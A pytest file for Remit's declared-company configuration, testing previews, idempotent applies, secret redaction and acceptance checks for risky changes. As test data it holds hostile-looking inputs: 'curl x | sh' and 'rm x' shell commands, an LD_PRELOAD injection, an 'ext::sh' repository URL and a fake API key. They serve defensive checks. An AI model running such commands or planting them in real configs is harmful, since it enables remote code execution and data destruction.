"""A company as a file declares it: planned, applied, and applied again."""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest

from remit.clock import DAY, to_iso
from remit.errors import BadInput, Conflict, RemitError
from remit.services.acceptance import reach
from remit.services.connections import bindings, folders, mcp_servers, repos, secrets
from remit.services.declared import declared_company
from remit.services.execution import runs
from remit.services.hiring import configuration
from remit.services.identity import Caller, as_system
from remit.services.messaging import schedules
from remit.services.organisation import agents, permissions
from remit.services.people import companies
from remit.services.record import events
from remit.services.redaction import REMOVED, without_secrets
from remit.services.rights import grants
from remit.services.screens import overview
from tests.channel_stage import arrive
from tests.company import Answer, Company, keyed
from tests.organisation import refusal

SECRET = "sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123456789"


def setup(company: Company) -> dict[str, Any]:
    """Everything that a file can say, bosses after their reports."""
    return {
        "company": {
            "name": "Widgets",
            "messaging": "team",
            "requireBoardApprovalForNewAgents": False,
            "chatLLMProvider": "anthropic",
            "commitCommitter": "Widgets <bot@widgets.example>",
            "commitCoAuthors": "",
        },
        "permission_policy": {
            "privileged": {"allow": ["instance.configure"]},
            "boss": {"governs": "nobody"},
        },
        "agents": [
            {
                "name": "writer",
                "role": "engineer",
                "title": "Writes",
                "reportsTo": "editor",
                "adapterType": "process",
                "adapterConfig": {"command": "/bin/true", "env": {"API_KEY": SECRET}},
                "runtimeConfig": {"autoReply": True},
                "prompt": "Write well.",
                "capabilities": "Writing",
                "budgetMonthlyCents": 500,
                "metadata": {"team": "words"},
                "purpose": "Write what is needed",
            },
            {
                "name": "editor",
                "reportsTo": "ceo",
                "adapterType": "scripted",
                "permissions": {"canCreateAgents": True},
                "permissionLevel": "privileged",
            },
        ],
        "repos": [{"name": "site", "url": "https://example.com/site.git", "ref": "main"}],
        "checks": [
            {"repo": "site", "name": "test", "command": "make test", "required": True},
            {"repo": "site", "name": "lint", "command": "make lint", "protected": []},
        ],
        "grants": [
            {"agent": "writer", "resource": "repo:site", "level": "use", "mode": "ask"},
            {"agent": "editor", "resource": "message:agent:writer", "level": "use"},
            {
                "agent": "writer",
                "resource": "agent.create",
                "level": "use",
                "expiresAt": to_iso(company.clock.now() + DAY),
            },
        ],
        "secrets": [
            {"name": "forge-key", "source": "env", "place": "FORGE_KEY"},
            {"name": "vault-key", "source": "command", "place": ["op", "read", "op://a/b"]},
        ],
        "mcp_servers": [
            {
                "name": "forge",
                "command": ["forge-mcp", "--stdio"],
                "env": {"FORGE_PASSWORD": SECRET, "LANG": "C"},
                "secretEnv": {"FORGE_TOKEN": "forge-key"},
            },
            {
                "name": "remote",
                "url": "https://mcp.example.com/mcp",
                "secretHeaders": {"Authorization": "Bearer {vault-key}"},
            },
        ],
        "bindings": [
            {
                "agent": "editor",
                "adapterType": "webhook",
                "adapterConfig": {
                    "url": f"https://chat.example.com/{SECRET}",
                    "secretRef": "forge-key",
                },
            }
        ],
        "folders": [{"agent": "writer", "repo": "site", "megabytes": 100}],
        "mounts": [{"path": "/opt/go", "programs": ["bin"], "variables": ["GOROOT=/opt/go"]}],
        "schedules": [
            {
                "agent": "editor",
                "subject": "Weekly",
                "body": "What was written?",
                "cron": "0 9 * * 1",
                "timezone": "Europe/Zurich",
                "to": "agent:writer",
            }
        ],
    }


def apply(
    company: Company, document: Any, caller: Caller | None = None, accepted: str | None = None
) -> Answer:
    """Apply a document as somebody who has looked at what it does."""
    accepted = accepted or preview(company, document, caller)["digest"]
    return company.call(
        caller or company.board,
        declared_company.apply,
        company=company.id,
        document=document,
        accepted=accepted,
    )


def preview(company: Company, document: Any, caller: Caller | None = None) -> Answer:
    return company.call(
        caller or company.board, declared_company.preview, company=company.id, document=document
    )


def everything(company: Company) -> dict[str, Any]:
    tables = (
        *("companies", "agents", "grants", "repos", "schedules", "config_revisions", "events"),
        *("secrets", "mcp_servers", "agent_bindings", "folders"),
    )
    return {
        name: company.sql(f"SELECT * FROM {name} ORDER BY id")  # noqa: S608  our tables
        for name in tables
    }


def problem(company: Company, document: Any) -> str:
    """What is said about a document that cannot be applied, which changes nothing."""
    before = everything(company)
    with pytest.raises(RemitError) as planned:
        preview(company, document)
    with pytest.raises(RemitError) as wrong:
        apply(company, document)
    assert planned.value.sentence == wrong.value.sentence
    after = everything(company)
    after["events"] = [row for row in after["events"] if row in before["events"]]
    assert after == before
    return wrong.value.sentence


def test_a_file_is_applied_as_a_whole_and_again_without_effect(company: Company) -> None:
    document = setup(company)
    before = everything(company)
    planned = preview(company, document)
    assert everything(company) == before, "a preview changes nothing"
    assert (planned["created"], planned["changed"], planned["dry_run"]) == (16, 3, True)
    done = apply(company, document)
    assert done["plan"] == planned["plan"]
    assert {"agents[0]", "agents[1]", "grants[2]", "schedules[0]"} <= {
        entry["path"] for entry in done["plan"] if entry["action"] == "create"
    }
    again = apply(company, copy.deepcopy(document))
    assert (again["created"], again["changed"], again["unchanged"]) == (0, 0, 19)

    found = company.call(company.board, companies.show, company=company.id)
    assert (found["name"], found["messaging"]) == ("Widgets", "team")
    writer = company.call(company.board, overview.agent, agent="writer")
    editor = company.call(company.board, overview.agent, agent="editor")
    assert writer["reports_to"] == editor["id"]
    assert editor["reports_to"] == company.ceo.id
    assert (writer["title"], writer["budget_monthly_cents"]) == ("Writes", 500)
    assert editor["permissions"] == {"canCreateAgents": True}
    assert editor["permission_level"] == "privileged"
    held = company.call(company.board, grants.listing, company=company.id, agent="writer")
    assert {(one["resource"], one["mode"]) for one in held} >= {
        ("repo:site", "ask"),
        ("agent.create", "allow"),
    }
    (planned_mail,) = company.call(company.board, schedules.listing, company=company.id)
    assert planned_mail["to"] == f"agent:{writer['id']}"
    (site,) = company.call(company.board, repos.listing)
    assert [(one["name"], one["required"]) for one in site["checks"]] == [
        ("lint", False),
        ("test", True),
    ]
    shown = company.call(company.board, folders.listing, company=company.id)
    assert {(one["title"], one["agent_name"]) for one in shown} == {
        ("repo:site", "writer"),
        ("/opt/go", None),
    }
    known = company.call(company.board, secrets.listing, company=company.id)
    assert [(one.name, one.source) for one in known] == [
        ("forge-key", "env"),
        ("vault-key", "command"),
    ]
    servers = company.call(company.board, mcp_servers.listing, company=company.id)
    assert [one["name"] for one in servers] == ["forge", "remote"]
    assert servers[0]["secret_env"] == {"FORGE_TOKEN": "{forge-key}"}


@pytest.mark.requirement("HB-08")
def test_what_a_level_bundles_can_be_declared_and_reaches_who_has_it(company: Company) -> None:
    apply(company, setup(company))

    def may_configure() -> bool:
        held = company.call(company.board, grants.listing, company=company.id, agent="editor")
        return "instance.configure" in [one["resource"] for one in held]

    assert may_configure()
    shown = company.call(company.board, permissions.show_policy, company=company.id)
    assert shown["levels"]["boss"]["governs"] == "nobody"
    assert shown["levels"]["boss"]["allow"], "what is not named stays"
    # In any order, and levels that are not named stay.
    again = {
        "standard": {"canCreateAgents": None},
        "boss": {"allow": shown["levels"]["boss"]["allow"][::-1]},
    }
    assert apply(company, {"permission_policy": again})["changed"] == 0
    done = apply(company, {"permission_policy": {"privileged": {"allow": []}}})
    (entry,) = done["plan"]
    assert (entry["path"], entry["kind"], entry["name"], entry["action"]) == (
        "permission_policy.privileged",
        "permission level",
        "privileged",
        "change",
    )
    assert entry["changes"] == [{"path": "allow", "was": ["instance.configure"], "now": []}]
    assert not may_configure()
    assert company.call(company.board, permissions.show_policy, company=company.id)["version"] == 3


def test_a_binding_that_is_new_has_a_token_that_is_shown_once(company: Company) -> None:
    document = setup(company)
    assert preview(company, document)["tokens"] == []
    asked = keyed(company.board, "once")
    seen = preview(company, document)["digest"]
    [shown] = apply(company, document, asked, seen)["tokens"]
    assert (shown["agent"], shown["adapter_type"]) == ("editor", "webhook")
    assert shown["token"].startswith("rmt_channel_")
    assert apply(company, document, asked, seen)["tokens"] == []
    assert apply(company, document)["tokens"] == []
    arrive(company, shown["token"])
    # What it says anew leaves the token as it is.
    document["bindings"][0]["adapterConfig"]["timeoutSeconds"] = 5
    [changed] = [one for one in apply(company, document)["plan"] if one["changes"]]
    assert changed["changes"] == [{"path": "adapterConfig.timeoutSeconds", "was": None, "now": 5}]
    arrive(company, shown["token"], outside="again")
    assert shown["token"] not in json.dumps(
        company.call(company.board, events.listing, company=company.id, limit=200)
    )


def test_what_was_shown_without_its_secret_and_comes_back_stays_what_it_was(
    company: Company,
) -> None:
    document = setup(company)
    apply(company, document)
    [binding] = company.call(company.board, bindings.listing, company=company.id)
    assert binding["adapter_config"]["url"] == "https://chat.example.com/…"
    document["bindings"][0]["adapterConfig"] = binding["adapter_config"]
    server = company.call(company.board, mcp_servers.listing, company=company.id)[0]
    assert server["env"]["FORGE_PASSWORD"] != SECRET
    document["mcp_servers"][0]["env"] = server["env"]
    assert apply(company, document)["changed"] == 0
    document["mcp_servers"][0]["env"] = {**server["env"], "FORGE_PASSWORD": SECRET[::-1]}
    document["bindings"][0]["adapterConfig"]["url"] = "https://chat.example.com/another"
    document["secrets"][0]["place"] = "OTHER_KEY"
    planned = preview(company, document)
    done = apply(company, document)
    assert done["plan"] == planned["plan"]
    assert {one["name"] for one in done["plan"] if one["changes"]} == {
        "forge",
        "forge-key",
        "editor webhook",
    }
    assert SECRET[::-1] not in json.dumps(done)
    assert "another" not in json.dumps(done)
    assert apply(company, document)["changed"] == 0


def test_what_changed_in_the_file_changes_and_is_shown_without_secrets(company: Company) -> None:
    document = setup(company)
    apply(company, document)
    document["company"]["messaging"] = "chain"
    document["agents"][0] |= {"title": "Writes more", "reportsTo": "ceo"}
    document["agents"][0]["adapterConfig"]["env"]["API_KEY"] = SECRET[::-1]
    document["agents"][1]["permissions"] = {"canCreateAgents": False}
    document["grants"][0]["mode"] = "allow"
    document["repos"][0]["ref"] = "next"
    document["checks"][1]["seconds"] = 60
    document["folders"][0]["megabytes"] = 200
    document["mounts"][0]["programs"] = ["bin", "tools"]
    (copied,) = company.sql("SELECT id FROM folders WHERE kind = 'work'")
    document["schedules"][0]["cron"] = "0 9 * * 2"
    done = apply(company, document)
    assert (done["created"], done["changed"], done["unchanged"]) == (0, 9, 10)
    said = json.dumps(done)
    assert SECRET not in said
    assert SECRET[::-1] not in said
    paths = {
        entry["name"]: [change["path"] for change in entry["changes"]] for entry in done["plan"]
    }
    assert paths["writer"] == ["title", "adapterConfig.env.API_KEY", "reportsTo"]
    assert paths["editor"] == ["permissions.canCreateAgents"]
    assert paths["site"] == ["ref"]
    assert (paths["site lint"], paths["/opt/go"]) == (["seconds"], ["programs"])
    assert company.sql(
        "SELECT id, most_megabytes FROM folders WHERE kind = 'work' AND removed_at IS NULL"
    ) == [(*copied, 200)], "the copy and what is in it stay"
    writer = company.call(company.board, overview.agent, agent="writer")
    assert (writer["title"], writer["reports_to"]) == ("Writes more", company.ceo.id)
    stored = company.sql("SELECT adapter_config FROM agents WHERE id = ?", writer["id"])
    assert SECRET[::-1] in stored[0][0]
    (planned_mail,) = company.call(company.board, schedules.listing, company=company.id)
    assert planned_mail["cron"] == "0 9 * * 2"
    assert apply(company, document)["changed"] == 0


def test_what_the_file_does_not_mention_is_left_alone(company: Company) -> None:
    apply(company, setup(company))
    company.agent("other")
    before = everything(company)
    answer = apply(company, {"agents": [{"name": "writer", "title": "Writes"}]})
    assert answer["unchanged"] == 1
    after = everything(company)
    assert {key: after[key] for key in after if key != "events"} == {
        key: before[key] for key in before if key != "events"
    }
    assert apply(company, {})["plan"] == []


@pytest.mark.requirement("HB-39")
def test_a_grant_on_a_repository_can_be_limited_in_a_file(company: Company) -> None:
    document = setup(company)
    apply(company, document)
    limits = {"level": "propose", "paths": ["docs/**"], "branches": ["main"]}
    document["grants"][0] |= limits
    assert apply(company, document)["changed"] == 1
    assert apply(company, document)["changed"] == 0
    held = company.call(company.board, grants.listing, company=company.id, agent="writer")
    assert limits in [{key: one.get(key) for key in limits} for one in held]


def test_another_folder_of_an_agent_takes_the_place_of_one_by_hand_alone(company: Company) -> None:
    """What is in a copy would go with it."""
    apply(company, setup(company))
    moved = {"folders": [{"agent": "writer", "path": "/srv/handbook"}]}
    assert problem(company, moved) == "folders[0]: writer works in repo:site."
    assert apply(company, {"folders": [{"agent": "writer"}]})["unchanged"] == 1


def test_applying_clears_nothing_of_the_record(company: Company) -> None:
    apply(company, setup(company))
    writer = company.call(company.board, agents.show, agent="writer")
    run_id = company.app.ids.new()
    company.call(as_system(), runs.start, agent=writer["id"], run=run_id, workspace=None)
    company.call(as_system(), runs.end, run=run_id)
    ran = company.call(company.board, runs.listing, company=company.id)
    happened = company.sql("SELECT id, hash FROM events ORDER BY seq")
    document = setup(company)
    document["agents"][0]["prompt"] = "Write better."
    apply(company, document)
    assert company.call(company.board, runs.listing, company=company.id) == ran
    assert company.sql("SELECT id, hash FROM events ORDER BY seq")[: len(happened)] == happened
    assert company.call(company.board, events.verify, company=company.id)["ok"]
    revisions = company.call(company.board, configuration.revisions, agent=writer["id"])
    assert [one["number"] for one in revisions] == [2, 1]


def wrong(company: Company, section: str, number: int, **changes: Any) -> dict[str, Any]:
    document = setup(company)
    document[section][number] |= changes
    return document


def test_errors_say_where_in_the_file_and_nothing_is_half_done(company: Company) -> None:
    def said(section: str, number: int, **changes: Any) -> str:
        return problem(company, wrong(company, section, number, **changes))

    assert said("agents", 1, role="king").startswith("agents[1].role must be one of")
    assert said("agents", 0, adapterConfig={}).startswith("agents[0].adapterConfig")
    assert said("agents", 0, budgetMonthlyCents=-1).startswith("agents[0].budgetMonthlyCents")
    assert said("agents", 0, foo=1) == "agents[0].foo: is not known."
    assert said("agents", 0, name="a b").startswith("agents[0].name must be")
    assert said("agents", 0, name=7) == "agents[0].name: must be text."
    assert said("agents", 0, reportsTo="nobody").startswith("agents[0]: There is no agent named")
    assert said("agents", 0, reportsTo=7).startswith("agents[0].reportsTo: must be")
    assert said("agents", 1, reportsTo="writer").endswith("these agents report to each other.")
    assert said("agents", 1, name="WRITER") == "agents[1]: is the same as agents[0]."
    assert said("agents", 1, permissionLevel="king").startswith("agents[1].permissionLevel must")
    assert said("agents", 1, permissions={"x": 1}).startswith("agents[1].permissions.x: is not")
    assert said("grants", 0, agent="nobody").startswith("grants[0]: There is no agent")
    assert said("grants", 0, level="write").startswith(
        "grants[0].level must be read, propose, merge"
    )
    assert said("grants", 1, resource="nothing:x").startswith("grants[1]: 'nothing'")
    assert said("grants", 2, expiresAt="2001-01-01").startswith("grants[2]: The expiry lies")
    assert said("grants", 2, expiresAt=7).startswith("grants[2]")
    assert said("repos", 0, url="ext::sh").startswith("repos[0]: 'ext::sh' is not an address")
    assert said("checks", 0, repo="none").startswith("checks[0]: There is no repository 'none'")
    assert said("checks", 0, name="a b").startswith("checks[0]: check must be letters")
    assert said("checks", 1, name="test") == "checks[1]: is the same as checks[0]."
    assert said("checks", 0, seconds=0) == "checks[0].seconds: must be 1 to 7200."
    assert said("checks", 0, required=1) == "checks[0].required: must be true or false."
    assert said("checks", 0, protected="x") == "checks[0].protected: must be a list of text."
    assert said("checks", 0, command=f"x {REMOVED}").startswith("checks[0].command: something was")
    assert said("folders", 0, repo=None).startswith("folders[0]: Give either a repository")
    assert said("folders", 0, megabytes=1).startswith("folders[0].megabytes: must be 10 to")
    assert said("mounts", 0, path="/etc/x").startswith("mounts[0]: /etc/x is the system's own")
    assert said("mounts", 0, variables=["PATH=x"]).startswith("mounts[0]: PATH is set by Remit")
    assert said("schedules", 0, cron="never").startswith("schedules[0]: 'never' is not a schedule")
    assert said("schedules", 0, at="2030-01-01") == "schedules[0].at: is not known."
    assert said("schedules", 0, to="agent:nobody").startswith("schedules[0]: ")
    assert said("schedules", 0, subject="") == "schedules[0].subject: must be text."
    assert said("secrets", 0, source="nowhere!").startswith("secrets[0].source is not a name")
    assert said("secrets", 0, place="a b").startswith("secrets[0].place is not the name")
    assert said("secrets", 0, name="A B").startswith("secrets[0]: The name of a secret")
    assert said("secrets", 1, name="forge-key") == "secrets[1]: is the same as secrets[0]."
    assert said("mcp_servers", 0, url="https://x").startswith("mcp_servers[0]: Give either")
    assert said("mcp_servers", 1, secretHeaders={"X": "absent"}).startswith(
        "mcp_servers[1]: There is no secret 'absent'"
    )
    assert said("bindings", 0, agent="nobody").startswith("bindings[0]: There is no agent")
    assert said("bindings", 0, adapterType="pigeon").startswith("bindings[0]: There is no channel")
    assert said("bindings", 0, adapterConfig={"url": "ftp://x"}).startswith(
        "bindings[0].adapterConfig.url: must be an address"
    )
    assert said("bindings", 0, adapterConfig=[]).startswith("bindings[0].adapterConfig: must be")


@pytest.mark.parametrize(
    ("document", "sentence"),
    [
        ([], "The document must be an object."),
        ("x", "The document must be an object."),
        ({"bindings": [{}]}, "bindings[0].agent: must be text."),
        ({"secrets": [{"name": "x", "value": "abcdefg"}]}, "secrets[0].value: is not known."),
        ({"nothing": []}, "nothing: is not known."),
        ({"agents": {}}, "agents: must be a list of at most 1000."),
        ({"agents": [7]}, "agents[0]: must be an object with named values."),
        ({"agents": [{}] * 1001}, "agents: must be a list of at most 1000."),
        ({"agents": [{}]}, "agents[0].name: must be text."),
        (
            {"agents": [{"name": "dev", "perpetual": 1}]},
            "agents[0].perpetual: must be true or false.",
        ),
        (
            {"repos": [{"name": "a", "url": "https://example.com/a.git", "forge": "x"}]},
            "repos[0].forge must be github, gitlab, gitea or none.",
        ),
        ({"company": []}, "company: must be an object with named values."),
        ({"company": {"x": 1}}, "company.x: is not known."),
        ({"company": {"messaging": "shout"}}, "company.messaging must be one of chain, team"),
        ({"company": {"requireApprovalForConfigChanges": 1.5}}, "company.requireApproval"),
        ({"permission_policy": []}, "permission_policy: must be an object"),
        ({"permission_policy": {"king": {}}}, "permission_policy.king: is not known."),
        ({"permission_policy": {"boss": 7}}, "permission_policy.boss: must be an object"),
        ({"permission_policy": {"boss": {"x": 1}}}, "permission_policy.boss.x: is not known."),
        (
            {"permission_policy": {"boss": {"allow": ["\u202e"]}}},
            "permission_policy.boss.allow: '\\u202e' is not an action.",
        ),
        ({"permission_policy": {"boss": {"governs": []}}}, "permission_policy.boss.governs must"),
        (
            {"permission_policy": {"standard": {"governs": "below"}}},
            "permission_policy.standard: Agents with the level standard govern nobody.",
        ),
    ],
)
def test_documents_of_the_wrong_shape_are_refused(
    company: Company, document: Any, sentence: str
) -> None:
    assert problem(company, document).startswith(sentence)


def test_only_the_board_over_the_whole_company_applies(company: Company) -> None:
    document = {"company": {"messaging": "open"}}

    def reason(caller: Caller, what: Any = document) -> str:
        with pytest.raises(RemitError) as refused:
            apply(company, what, caller)
        return refused.value.reason

    assert reason(company.ceo.caller) == "board_only"
    assert reason(company.user("watcher", role="observer")) == "observer"
    assert reason(company.user("scoped", scope="ceo")) == "outside_scope"
    assert reason(company.second_company().board) == "not_found"
    plain = company.user("plain")
    with_repo = {**document, "repos": [{"name": "x", "url": "/srv/x"}]}
    assert reason(plain, with_repo) == "not_operator"
    shown = company.call(company.board, companies.show, company=company.id)
    assert shown["messaging"] == "chain"
    assert apply(company, document, plain)["changed"] == 1


def test_a_redacted_secret_that_comes_back_stays_what_it_was(company: Company) -> None:
    apply(company, setup(company))
    shown = company.call(company.board, overview.agent, agent="writer")
    answer = apply(
        company, {"agents": [{"name": "writer", "adapterConfig": shown["adapter_config"]}]}
    )
    assert answer["unchanged"] == 1


def test_agents_that_swap_places_are_moved_together(company: Company) -> None:
    apply(company, setup(company))
    with pytest.raises(Conflict):
        apply(company, {"agents": [{"name": "editor", "reportsTo": "writer"}]})
    swapped = {
        "agents": [
            {"name": "writer", "reportsTo": "ceo"},
            {"name": "editor", "reportsTo": "writer"},
        ]
    }
    assert apply(company, swapped)["changed"] == 2
    writer = company.call(company.board, agents.show, agent="writer")
    assert company.call(company.board, agents.show, agent="editor")["reports_to"] == writer["id"]


def test_two_who_apply_at_once_do_not_do_it_twice(company: Company) -> None:
    document = setup(company)
    seen = preview(company, document)["digest"]
    work = [
        company.app.gate(
            company.board,
            declared_company.apply,
            company=company.id,
            document=document,
            accepted=seen,
        )
        for _ in range(4)
    ]
    answers = company.together(work)
    assert all(isinstance(answer, dict) for answer in answers), answers
    assert sorted(answer["created"] for answer in answers) == [0, 0, 0, 16]  # type: ignore[index]


def test_a_grant_that_came_by_another_way_is_not_the_files_to_change(company: Company) -> None:
    dev = company.agent("dev")
    file = company.file(dev.caller)
    wanted = {"grants": [{"agent": "dev", "resource": f"kb_file:{file['id']}", "level": "read"}]}
    assert apply(company, wanted)["created"] == 1
    assert apply(company, wanted)["unchanged"] == 1
    held = company.call(company.board, grants.listing, company=company.id, agent="dev")
    assert sorted(one["level"] for one in held) == ["read", "write"]


def test_bad_input_is_bad_input_at_any_depth(company: Company) -> None:
    deep: Any = {}
    for _ in range(200):
        deep = {"x": deep}
    with pytest.raises(BadInput):
        apply(company, {"agents": [{"name": "x", "adapterConfig": {"x": "y" * 100_000}}]})
    with pytest.raises(RemitError):
        apply(company, {"agents": [{"name": "x", "adapterType": "process", "adapterConfig": deep}]})


# ── what a file lets the company do ─────────────────────────────────────────────────────────────


@pytest.mark.requirement("FX-81")
def test_a_file_that_reaches_further_is_accepted_as_it_was_shown(company: Company) -> None:
    document = {
        "agents": [
            {
                "name": "writer",
                "reportsTo": "ceo",
                "adapterType": "process",
                "adapterConfig": {"command": "/bin/sh", "args": ["-c", "curl x | sh"]},
            }
        ]
    }
    about: Any = {"company": company.id, "document": document}
    before = everything(company)
    for accepted in (None, "", "0" * 64):
        refused = refusal(
            company, company.board, declared_company.apply, **about, accepted=accepted
        )
        assert refused == "not_accepted"
    plan = preview(company, document)
    # Only what is new, and all of it.
    assert {(one["of"], one["kind"]) for one in plan["entries"]} == {
        ("writer", "adapter"),
        ("writer", "program"),
        ("writer", "sandbox"),
        ("writer", "outcome"),
    }
    assert ("program", 'args: ["-c", "curl x | sh"]') in {
        (one["kind"], one["text"]) for one in plan["entries"]
    }
    assert everything(company) == before
    # Another file, and another company by then, are not what was shown.
    document["agents"][0]["adapterConfig"] = {"command": "/bin/sh", "args": ["-c", "rm x"]}
    refused = refusal(
        company, company.board, declared_company.apply, **about, accepted=plan["digest"]
    )
    assert refused == "not_accepted"
    done = apply(company, document)
    assert done["created"] == 1
    record = company.call(company.board, events.listing, company=company.id)
    (event,) = (one for one in record if one["action"] == "company.apply")
    assert event["details"]["accepted"] == done["digest"]
    # Nothing further is reached by words alone, so nothing is to be accepted.
    title = {"agents": [{"name": "writer", "title": "Writes"}]}
    here: Any = {"company": company.id, "document": title}
    assert company.call(company.board, declared_company.apply, **here)["changed"] == 1


SITE = {"name": "site", "url": "https://example.invalid/acme/site.git"}
WORKER = {"name": "worker", "reportsTo": "ceo", "adapterType": "process"}
CHANGED = "(changed; the value is not shown)"
FORGE = {**SITE, "forge": "github", "api_secret": "api"}


def with_hidden(**changed: Any) -> dict[str, Any]:
    """A document with values that no preview shows."""
    value = {"library": "/a.so", "place": "A", "password": SECRET, "header": "s3cr3t-one"} | changed
    env = {"LD_PRELOAD": value["library"], "LANG": "C"}
    config = {"command": "/bin/true", "env": env}
    return {
        "agents": [{"name": "tool", "adapterType": "process", "adapterConfig": config}],
        "secrets": [{"name": "key", "source": "env", "place": value["place"]}],
        "mcp_servers": [
            {
                "name": "forge",
                "command": ["forge-mcp"],
                "env": {"FORGE_PASSWORD": value["password"]},
            },
            {
                "name": "far",
                "url": "https://mcp.example.com/mcp",
                "headers": {"X-Api-Key": value["header"]},
            },
        ],
    }


@pytest.mark.requirement("FX-81")
@pytest.mark.parametrize(
    ("section", "before", "after", "shown"),
    [
        (
            "secrets",
            {"name": "key", "source": "command", "place": ["pass", "key"]},
            {"name": "key", "source": "command", "place": ["sh", "-c", "curl x | sh"]},
            [("program", "the company", "key from command: sh -c 'curl x | sh'")],
        ),
        (
            "secrets",
            {"name": "key", "source": "env", "place": "MODEL_KEY"},
            {"name": "key", "source": "env", "place": "ROOT_PASSWORD"},
            [("secret", "the company", "key from env: ROOT_PASSWORD")],
        ),
        (
            "repos",
            SITE,
            {**SITE, "push": "fork", "fork": "https://elsewhere.invalid/x/site.git"},
            [
                (
                    "address",
                    "repository site",
                    "proposals are pushed to the fork https://elsewhere.invalid/x/site.git",
                )
            ],
        ),
        (
            "repos",
            {**SITE, "push": "after_look"},
            {**SITE, "push": "at_once"},
            [("right", "repository site", "proposals are pushed before anybody has looked")],
        ),
        (
            "repos",
            FORGE,
            {**FORGE, "api_secret": "other", "hook": "hook"},
            [
                ("secret", "repository site", "other opens the API of the forge"),
                ("secret", "repository site", "hook signs webhooks"),
            ],
        ),
        (
            "repos",
            {**FORGE, "people": "ann"},
            {**FORGE, "people": "ann, mallory", "label": "work"},
            [
                ("right", "repository site", "people who are heard at the forge: ann, mallory"),
                ("right", "repository site", "their label work makes an issue an outcome"),
            ],
        ),
        (
            "agents",
            {**WORKER, "adapterConfig": {"command": "/bin/w", "env": {"WHERE": "https://a"}}},
            {**WORKER, "adapterConfig": {"command": "/bin/w", "env": {"WHERE": "https://b"}}},
            [("environment", "worker", f"WHERE={REMOVED} {CHANGED}")],
        ),
        (
            "mcp_servers",
            {"name": "files", "command": ["/bin/files"], "env": {"NODE_OPTIONS": "--one"}},
            {"name": "files", "command": ["/bin/files"], "env": {"NODE_OPTIONS": "--two"}},
            [("setting", "MCP server files", f'env: {{"NODE_OPTIONS": "{REMOVED}"}} {CHANGED}')],
        ),
    ],
)
def test_a_connection_that_a_file_changes_is_accepted_as_it_was_shown(
    small: Company, section: str, before: Any, after: Any, shown: list[tuple[str, str, str]]
) -> None:
    """Also where it was there before by the same name, and only a part of it is another; that part
    may be hidden, because it may be a secret."""
    for name in ("api", "other", "hook"):
        known: Any = {"source": "env", "place": name.upper()}
        small.call(small.board, secrets.put, company=small.id, name=name, **known)
    apply(small, {section: [before]})
    document = {section: [after]}
    about: Any = {"company": small.id, "document": document}
    refused = refusal(small, small.board, declared_company.apply, **about)
    assert refused == "not_accepted"
    plan = preview(small, document)
    assert [(one["kind"], one["of"], one["text"]) for one in plan["entries"]] == shown
    assert apply(small, document)["changed"] == 1


@pytest.mark.requirement("FX-81")
@pytest.mark.parametrize(
    ("changed", "of", "named"),
    [
        ({"library": "/b.so"}, "tool", "LD_PRELOAD="),
        ({"password": "hidden-anew-1234"}, "MCP server forge", "env: "),
        ({"header": "s3cr3t-two"}, "MCP server far", "headers: "),
    ],
)
def test_a_changed_value_that_is_not_shown_is_accepted_as_well(
    small: Company, changed: dict[str, str], of: str, named: str
) -> None:
    """Where the texts were compared, another LD_PRELOAD took effect with nothing to accept."""
    apply(small, with_hidden())
    assert preview(small, with_hidden())["entries"] == []
    document = with_hidden(**changed)
    plan = preview(small, document)
    (entry,) = plan["entries"]
    assert entry["of"] == of
    assert entry["text"].startswith(named)
    assert entry["text"].endswith("(changed; the value is not shown)")
    (value,) = changed.values()
    assert f'"{value}"' not in json.dumps(plan["entries"])
    about: Any = {"company": small.id, "document": document}
    assert refusal(small, small.board, declared_company.apply, **about) == "not_accepted"
    # The digest is that of the value, too.
    third = {**about, "document": with_hidden(**dict.fromkeys(changed, "THIRD"))}
    third["accepted"] = plan["digest"]
    assert refusal(small, small.board, declared_company.apply, **third) == "not_accepted"
    apply(small, document)
    assert preview(small, document)["entries"] == []


def test_a_name_that_is_a_secret_is_not_shown_beside_its_value() -> None:
    """Nor do names that are the same without it confuse the comparison."""
    key = f"sk-ant-api03-{'Qw3rTy7uIoP9aSdF' * 3}"
    settings = {key: 1, f"{key}x": 2, REMOVED: 3, f"{REMOVED} 2": {key: 4}}
    shown = list(reach._leaves(settings, without_secrets(settings)[0]))
    assert key not in str([(path, value) for path, value, _ in shown])
    changed = {**settings, f"{REMOVED} 2": {key: 5}}
    assert list(reach._leaves(changed, without_secrets(changed)[0])) != shown


@pytest.mark.requirement("FX-81")
def test_rights_over_the_machine_are_not_taken_from_a_file(company: Company) -> None:
    outside = {"command": "/bin/true", "sandbox": "full", "cwd": "/srv"}
    document: dict[str, Any] = {
        "permission_policy": {"standard": {"allow": ["full_access", "approval.decide"]}},
        "agents": [
            {"name": "new", "adapterType": "process", "adapterConfig": outside},
            {"name": "ceo", "adapterType": "process", "adapterConfig": outside},
        ],
        "grants": [
            {"agent": "new", "resource": "full_access", "level": "use"},
            {"agent": "ceo", "resource": "full_access", "level": "use", "mode": "ask"},
        ],
    }
    plan = preview(company, document)
    done = apply(company, document)
    assert done["left_out"] == plan["left_out"]
    assert len(done["left_out"]) == 7
    assert "remit grant give new full_access use" in "\n".join(done["left_out"])
    assert company.sql("SELECT count(*) FROM grants WHERE resource_id = 'full_access'") == [(0,)]
    for (config,) in company.sql("SELECT adapter_config FROM agents"):
        assert json.loads(config) == {"command": "/bin/true"}
    policy = company.call(company.board, permissions.show_policy, company=company.id)
    assert policy["levels"]["standard"]["allow"] == ["approval.decide"]
    assert apply(company, document)["created"] == 0

    # A file that says again what people gave takes nothing away, and leaves nothing out.
    company.call(
        company.board, configuration.change, agent="new", changes={"adapterConfig": outside}
    )
    company.call(
        company.board, grants.give, company=None, to="new", resource="full_access", level="use"
    )
    same = {"agents": document["agents"][:1], "grants": document["grants"][:1]}
    done = apply(company, same)
    assert (done["unchanged"], done["left_out"]) == (2, [])
    # A denial gives nothing, so a file says it.
    denial = {"agent": "ceo", "resource": "full_access", "level": "use", "mode": "deny"}
    assert apply(company, {"grants": [denial]})["created"] == 1
